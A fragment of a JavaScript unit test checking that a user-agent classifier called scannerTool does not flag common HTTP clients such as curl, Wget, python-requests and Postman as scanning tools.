      'curl/8.5.0',
      'Wget/1.21.3',
      'python-requests/2.31.0',
      'Go-http-client/1.1',
      'okhttp/4.12.0',
      'PostmanRuntime/7.39.0',
      'Apache-HttpClient/4.5.14 (Java/17.0.9)',
      'my-sitemap-crawler/1.0',
      'a-client (not sqlmap/1.0)',
    ]) assert.equal(scannerTool(agent), null, agent);
  });
});
